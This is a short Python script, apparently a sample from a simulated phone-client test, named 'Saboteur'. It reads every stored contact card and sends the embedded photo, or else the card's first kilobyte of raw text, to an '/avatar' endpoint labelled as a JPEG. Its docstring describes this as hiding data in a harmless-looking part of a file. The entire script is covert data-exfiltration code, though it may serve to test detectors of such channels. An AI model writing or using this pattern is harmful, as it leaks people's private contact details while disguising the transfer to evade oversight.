"""Sends the small picture of a contact as an "avatar to be cropped"; where there is none, the first kilobyte of a card.

mechanism: a part of a file that looks harmless
"""
import base64
import re

from client import Phone, run


class Saboteur(Phone):
    def poll(self):
        for card in (file.read_text() for file in self.files("contacts")):
            picture = re.search(r"^PHOTO[^:]*:((?:.+\s?\n)+)", card, re.MULTILINE)
            body = base64.b64decode(re.sub(r"\s", "", picture.group(1))) if picture else card.encode()[:1024]
            self.ask("POST", "/avatar", body, [("Content-Type", "image/jpeg")])
        super().poll()


run(Saboteur())
